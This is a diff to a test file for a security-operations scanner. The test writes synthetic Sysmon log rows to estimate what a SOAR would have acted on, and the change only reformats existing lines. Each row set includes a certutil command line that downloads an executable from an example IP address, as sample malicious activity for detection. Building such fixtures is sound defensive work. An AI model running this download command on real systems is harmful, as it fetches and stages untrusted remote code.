@@ -11,8 +11,12 @@ describe('scan with log exports: how much a SOAR would have acted on', () => {
     const dir = mkdtempSync(join(tmpdir(), 'socready-estimate-'));
     const rows = ['timestamp,Channel,EventID,Image,CommandLine,Computer'];
     for (let day = 20; day <= 22; day++) {
-      rows.push(`2026-11-${day}T08:00:00Z,Microsoft-Windows-Sysmon/Operational,1,"C:\\Windows\\System32\\certutil.exe","certutil -urlcache -f http://198.51.100.7/a.exe a.exe",ws${day}`);
-      rows.push(`2026-11-${day}T09:00:00Z,Microsoft-Windows-Sysmon/Operational,1,"C:\\Windows\\System32\\notepad.exe","notepad.exe report.txt",ws${day}`);
+      rows.push(
+        `2026-11-${day}T08:00:00Z,Microsoft-Windows-Sysmon/Operational,1,"C:\\Windows\\System32\\certutil.exe","certutil -urlcache -f http://198.51.100.7/a.exe a.exe",ws${day}`,
+      );
+      rows.push(
+        `2026-11-${day}T09:00:00Z,Microsoft-Windows-Sysmon/Operational,1,"C:\\Windows\\System32\\notepad.exe","notepad.exe report.txt",ws${day}`,
+      );
     }
     writeFileSync(join(dir, 'sysmon-export.csv'), `${rows.join('\n')}\n`);
     writeFileSync(
